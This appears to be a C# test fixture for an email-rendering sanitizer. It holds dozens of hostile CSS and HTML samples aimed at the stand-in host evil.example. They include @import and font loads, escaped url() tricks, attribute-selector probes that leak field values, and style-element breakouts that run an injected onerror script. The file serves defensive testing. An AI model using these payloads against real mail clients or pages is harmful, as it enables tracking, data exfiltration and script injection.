namespace GmailConnector.Web.Tests.Support;

/// <summary>
/// Style sheets of mail that try to load, run, hide or cover something, one of each known way. What they would ask for is at
/// evil.example: none of it is a background picture of a selector that may stay, so that it has to stay away even when pictures are shown.
/// </summary>
internal static class HostileSheets
{
    internal const string Elsewhere = "evil.example";

    /// <summary>What stands below each sheet.</summary>
    internal const string Words =
        """
        <p title=secret>Words <b>here</b> and a <a href="https://a.example/">link</a></p><ul><li>one</li></ul><input value=secret>
        <div class="gmail_quote">On Monday Ben wrote:<blockquote class="gmail_quote">old words</blockquote></div>
        """;

    private const string NothingShown = "nothing is shown";
    private const string OwnSheet = "our own sheet";
    private const string Script = "top.ran=1;new Image().src=`https://evil.example/ran`";

    /// <summary>Whether Chromium asks for something, or runs it, where nothing is in its way.</summary>
    internal sealed record Sheet(string Kind, string Html, bool IsLive, string Charset = "utf-8")
    {
        /// <summary>Whether it may well change the message's own fold, as it changes all of the message.</summary>
        internal bool StylesAllOfMessage => Kind is NothingShown or OwnSheet;
    }

    internal static IReadOnlyList<Sheet> All { get; } =
    [
        // Imports
        Css("import by url", "@import url(https://evil.example/1);", true),
        Css("import by word", "@import 'https://evil.example/1' screen;", true),
        Css("import without scheme", "@import \"//evil.example/1\";", true),
        Css("import in odd case", "@ImPoRt uRl('https://evil.example/1');", true),
        Css("import by escape", "@\\69 mport 'https://evil.example/1';", true),
        Css("import with escaped address", "@import 'https:\\2f\\2f evil.example/1';", true),
        Css("import after comments", "/*x*/@import/**/'https://evil.example/1'/**/;", true),
        Css("import after a charset", "@charset \"utf-8\";@import 'https://evil.example/1';", true),
        Css("import into a layer", "@import url(https://evil.example/1) layer(x) supports(display:block);", true),
        Css("import between CDO and CDC", "<!-- @import 'https://evil.example/1'; -->", true),
        Css("import without an end", "@import 'https://evil.example/1", true),
        Css("import after a rule", "p{color:red}@import 'https://evil.example/1';", false),
        Css("import in a media block", "@media screen{@import 'https://evil.example/1';}", false),
        Css("import in a rule", "p{@import 'https://evil.example/1';color:red}", false),
        Css("import in a comment that a string opens", "p{font-family:'/*'}@import 'https://evil.example/1';/*'*/", false),

        // Other rules
        Css("font", "@font-face{font-family:x;src:url(https://evil.example/1)}p{font-family:x}", true),
        Css("font in a format that is known", "@font-face{font-family:Arial;src:local(none),url(https://evil.example/1)format('woff2')}p{font-family:Arial}", true),
        Css("font of some letters alone", "@font-face{font-family:x;src:url(https://evil.example/1);unicode-range:U+57}p{font-family:x}", true),
        Css("namespace", "@namespace url(https://evil.example/1);p{color:red}", false),
        Css("layer", "@layer x{p{background:url(https://evil.example/1)}}", true),
        Css("container", "body{container-type:inline-size}@container (min-width:1px){p{background:url(https://evil.example/1)}}", true),
        Css("supports", "@supports (display:block){p{background:url(https://evil.example/1)}}", true),
        Css("scope", "@scope (body){p{background:url(https://evil.example/1)}}", true),
        Css("starting style", "@starting-style{p{background:url(https://evil.example/1)}}p{transition:all 1s}", true),
        Css("keyframes", "@keyframes x{from,to{background:url(https://evil.example/1)}}p{animation:x 1s infinite}", true),
        Css("property", "@property --x{syntax:'<image>';inherits:true;initial-value:none}p{--x:url(https://evil.example/1);background:var(--x)}", true),
        Css("counter style", "@counter-style x{system:cyclic;symbols:url(https://evil.example/1)}li{list-style:x}", false),
        Css("page and document", "@page{background:url(https://evil.example/1)}@-moz-document url-prefix(){p{background:url(https://evil.example/2)}}", false),
        Css("view transition and speculation", "@view-transition{navigation:auto}p{view-transition-name:x}", false),

        // Ways to write an address
        Css("url by escape", "p{list-style:none;mask-image:\\75rl(https://evil.example/1)}", true),
        Css("url by long escapes", "p{mask-image:\\000075\\000072\\00006c(https://evil.example/1)}", true),
        Css("url with a comment inside", "p{mask-image:u/**/rl(https://evil.example/1)}", false),
        Css("property by escape", "p{m\\61sk-image:url(https://evil.example/1)}", true),
        Css("src()", "p{background:src('https://evil.example/1')}", false),
        Css("image-set of words", "p{background:image-set('https://evil.example/1' 1x)}", true),
        Css("image-set of urls", "p{background:image-set(url(https://evil.example/1) 1x)}", true),
        Css("webkit image-set", "p{background:-webkit-image-set(url(https://evil.example/1) 1x)}", true),
        Css("webkit cross-fade", "p{background:-webkit-cross-fade(url(https://evil.example/1),url(https://evil.example/2),50%)}", true),
        Css("cross-fade and image()", "p{background:cross-fade(url(https://evil.example/1),red);background-image:image('https://evil.example/2')}", false),
        Css("element() and paint()", "p{background:element(#x),paint(x);background:-moz-element(#x)}", false),
        Css("custom property", "p{--x:url(https://evil.example/1);background:var(--x)}", true),
        Css("var with a fallback", "p{background:var(--none,url(https://evil.example/1))}", true),
        Css("attr()", "p{background:attr(title type(<url>),url(https://evil.example/1))}", false),
        Css("if() and functions", "@function --f(){result:url(https://evil.example/1)}p{background:--f();background:if(else:url(https://evil.example/2))}", true),
        Css("background of a script", "p{background:url(\"javascript:" + Script + "\")}", false),
        Css("background that is a picture with a script", "p{background:url(\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='" + Script + "'/>\")}", false),
        Css("background by ftp and file", "p{background:url(ftp://evil.example/1),url(file:///etc/passwd)}", true),

        // Properties that load
        Css("list-style", "li{list-style:url(https://evil.example/1)}", true),
        Css("list-style-image", "li{list-style-image:url(https://evil.example/1)}", true),
        Css("border-image", "p{border:9px solid;border-image:url(https://evil.example/1) 9}", true),
        Css("content", "p{content:url(https://evil.example/1)}", true),
        Css("empty boxes", "p::before{content:'';display:block;background:url(https://evil.example/1)}b:after{content:'Paid';position:fixed;inset:0}", true),
        Css("content of a pseudo-element", "p::before{content:url(https://evil.example/1)}p:after{content:url(https://evil.example/2)}", true),
        Css("cursor", "*{cursor:url(https://evil.example/1),auto}", true),
        Css("mask", "p{-webkit-mask:url(https://evil.example/1);mask:url(https://evil.example/2)}", true),
        Css("shape-outside", "p{float:left;shape-outside:url(https://evil.example/1)}", true),
        Css("clip-path and filter", "p{clip-path:url(https://evil.example/1#x);filter:url(https://evil.example/2#x)}", true),
        Css("webkit box-reflect", "p{-webkit-box-reflect:below 0 url(https://evil.example/1)}", true),
        Css("offset and src", "p{offset-path:url(https://evil.example/1#x);src:url(https://evil.example/2)}", false),
        Css("behavior, binding and expression", "p{behavior:url(https://evil.example/1);-moz-binding:url(https://evil.example/2#x);width:expression(" + Script + ")}", false),

        // Selectors that ask a server what is on the page
        Css("attribute by its beginning", "a[href^='https']{background:url(https://evil.example/1)}", true),
        Css("attribute of a field", "input[value^=s]{background:url(https://evil.example/1)}", true),
        Css("attribute in a part of the page", "p[title*=secret] b,p[title$=t]{background:url(https://evil.example/1)}", true),
        Css("class as an attribute", "div[class~=gmail_quote]{background:url(https://evil.example/1)}", true),
        Css("has", "body:has(p[title=secret]){background:url(https://evil.example/1)}", true),
        Css("not and is", "p:not(.x){background:url(https://evil.example/1)}:is(p,b){background:url(https://evil.example/2)}", true),
        Css("nth-child, lang and first-letter", "p:nth-child(n){background:url(https://evil.example/1)}:lang(en){background:url(https://evil.example/2)}p::first-letter{background:url(https://evil.example/3)}", true),
        Css("visited", "a:visited{background:url(https://evil.example/1)}", false),
        Css("root", ":root{background:url(https://evil.example/1)}", true),
        Css("nested", ".x,p{color:red;&{background:url(https://evil.example/1)}& b{background:url(https://evil.example/2)}}", true),
        Css("nested without a sign", "body{p{background:url(https://evil.example/1)}}", true),
        Css("scroll to a text", "p::target-text{background:url(https://evil.example/1)}:target{background:url(https://evil.example/2)}", false),

        // Endings
        new("end of the element in a string", "<style>p{font-family:'</style><img src=x onerror=\"" + Script + "\">'}</style>", true),
        new("end of the element in a comment", "<style>/*</style><img src=x onerror=\"" + Script + "\">*/</style>", true),
        new("end of the element in an address", "<style>p{background:url('</style><img src=x onerror=\"" + Script + "\">')}</style>", true),
        new("end of the element by escape", "<style>p{font-family:'\\3c/style>\\3cimg src=x onerror=" + Script + ">'}</style>", false),
        new("end of the element in an attribute", "<style>p{color:red}</style><p style=\"font-family:'</style><img src=x onerror=" + Script + ">'\">x</p>", false),
        new("comment of HTML round the end", "<style><!--</style><img src=x onerror=\"" + Script + "\">--></style>", true),
        new("sheet in SVG", "<svg><style>p{background:url(https://evil.example/1)}</style></svg>", true),
        new("sheet in SVG with an end in CDATA", "<svg><style><![CDATA[</style><img src=x onerror=\"" + Script + "\">]]></style></svg>", false),
        new("sheet in MathML and noscript", "<math><mtext><style><img src=x onerror=\"" + Script + "\"></style></mtext></math><noscript><style></noscript><img src=x onerror=\"" + Script + "\">", true),
        new("sheet by link", "<link rel=stylesheet href=https://evil.example/1><link rel=preload as=style href=https://evil.example/2>", true),
        new("sheet by a header's name", "<meta http-equiv=link content='<https://evil.example/1>;rel=stylesheet'><?xml-stylesheet href='https://evil.example/2'?>", false),
        new("sheet of media that runs", "<style media='screen{}@import `https://evil.example/1`;' onload=\"" + Script + "\">p{color:red}</style>", true),
        Css("string that isn't closed", "p{font-family:'x\n}b{mask-image:url(https://evil.example/1)}", true),
        Css("block that isn't closed", "@media screen{p{mask-image:url(https://evil.example/1)", true),
        Css("comment that isn't closed", "p{mask-image:url(https://evil.example/1)}/*", true),
        Css("brackets that cross", "p{color:([)]}b{mask-image:url(https://evil.example/1)}", false),
        Css("bad media blocks", "@media (((a{b:c}@media,{p{x:y}@media screen{p{mask-image:url(https://evil.example/1)}}", false),
        Css("NUL in words", "@im\0port 'https://evil.example/1';p{ma\0sk-image:url(https://evil.example/2)}", true),
        Css("byte order mark within", "\ufeff\ufeff@import 'https://evil.example/1';", false),
        new("UTF-7", "<meta charset=utf-7><style>+AEA-import 'https://evil.example/1';p+AHs-mask-image:url(https://evil.example/2)+AH0-</style>", false),
        new("UTF-16", "<style>@import 'https://evil.example/1';p{mask-image:url(https://evil.example/2)}</style>", true, "utf-16"),

        // Over our own things
        Css(NothingShown, "html,body,.message,*{display:none!important;visibility:hidden!important;opacity:0!important}", false),
        Css("over everything", "p{position:fixed!important;inset:0;z-index:2147483647;width:100vw;height:100vh;background:#fff}b{position:sticky;transform:scale(9)}", false),
        Css("our own names", ".note,.quote,.quote>summary,details,html.is-html body,template{display:none!important;content:'x'}", false),
        Css(OwnSheet, "html{color-scheme:dark;font-size:99px;zoom:9}:host,::part(x),::slotted(*){display:none}body{margin:-999px;position:absolute}", false),
    ];

    private static Sheet Css(string kind, string css, bool isLive) => new(kind, $"<style>{css}</style>", isLive);
}
